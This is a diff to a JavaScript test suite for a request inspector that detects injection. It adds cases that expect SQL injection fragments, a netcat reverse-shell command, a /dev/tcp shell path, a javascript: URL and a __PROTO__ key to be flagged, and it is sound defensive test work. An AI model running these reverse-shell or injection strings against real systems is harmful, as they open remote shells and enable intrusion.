@@ -268,6 +268,20 @@ describe('inspectRequest', () => {
     expect(inspectRequest({ body: { title: 'JavaScript: The Good Parts' } }).findings).toEqual([]);
   });
 
+  it.each([
+    ['1-@@version', 'sqli'],
+    ['select@@version', 'sqli'],
+    ['1 into 1', 'sqli'],
+    ['nc -e /bin/sh 10.0.0.1 4444', 'command_injection'],
+    ['/dev/tcp/10.0.0.1/4444', 'command_injection'],
+    ['javascript:foo:bar', 'xss'],
+    ['__PROTO__.admin', 'prototype_pollution'],
+  ])('reads %s (letters, digits and [ _.,:@/-] only) with every detector that can match it', (value, category) => {
+    // Such strings take the plain fast path, which once skipped SQL without a space, command,
+    // XSS and upper-case `PROTO`: the detector matched, the request passed.
+    expect(inspectRequest({ body: { value } }).findings[0]?.category).toBe(category);
+  });
+
   it('never lets a memoised verdict from a browser-destination key pass the same URL under a fetched-URL key', () => {
     // Loopback is legitimate under redirect_uri (RFC 8252), SSRF under webhook_url: a verdict
     // memoised for one must not answer for the other, plain or with a query string.
